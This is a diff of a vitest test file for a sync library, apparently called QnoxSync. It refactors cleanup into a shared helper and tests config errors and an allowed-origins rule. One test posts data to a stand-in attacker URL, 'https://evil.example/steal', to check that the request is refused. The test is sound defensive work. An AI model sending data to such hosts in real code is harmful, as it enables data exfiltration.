@@ -1,12 +1,8 @@
-import { afterEach, describe, expect, it } from 'vitest';
+import { describe, expect, it } from 'vitest';
 import { ConfigError, isQnoxError, OriginError, QnoxSync } from '../src/index.js';
-import { startHarness } from './helpers/harness.js';
+import { closeAfterEach, startHarness } from './helpers/harness.js';
 
-let close: (() => Promise<void>) | undefined;
-afterEach(async () => {
-  await close?.();
-  close = undefined;
-});
+const closer = closeAfterEach();
 
 describe('bad options fail at create with a config error naming the option', () => {
   const cases: [string, Record<string, unknown>][] = [
@@ -38,7 +34,7 @@ describe('bad options fail at create with a config error naming the option', () 
 describe('invariant 6: requests only go to allowed origins', () => {
   it('refuses an absolute URL to another origin before storing or sending anything', async () => {
     const h = await startHarness();
-    close = h.close;
+    closer.close = h.close;
     await expect(h.sync.post('https://evil.example/steal', { n: 1 })).rejects.toBeInstanceOf(
       OriginError,
     );
@@ -49,7 +45,7 @@ describe('invariant 6: requests only go to allowed origins', () => {
 
   it('accepts absolute URLs on the base origin and on the allow-list', async () => {
     const h = await startHarness({ allowedOrigins: ['https://uploads.example'] });
-    close = h.close;
+    closer.close = h.close;
     const res = await h.sync.get(`${h.server.url}/hello?x=1`);
     expect(res.data).toEqual({ path: '/hello', query: { x: '1' } });
     const m = await h.sync.post('https://uploads.example/files', 'text', {
@@ -68,7 +64,7 @@ describe('invariant 6: requests only go to allowed origins', () => {
       allowedOrigins: ['https://old.example'],
       autoSync: false,
     });
-    close = h.close;
+    closer.close = h.close;
     await h.sync.post('https://old.example/things', { n: 1 });
     const next = await QnoxSync.create({
       baseUrl: h.server.url,
@@ -86,7 +82,7 @@ describe('invariant 6: requests only go to allowed origins', () => {
 
   it('rejects bad per-call input with typed errors and keeps the queue intact', async () => {
     const h = await startHarness({ autoSync: false });
-    close = h.close;
+    closer.close = h.close;
     await h.sync.post('/streams/a', { n: 1 });
     const cyclic: Record<string, unknown> = {};
     cyclic.self = cyclic;
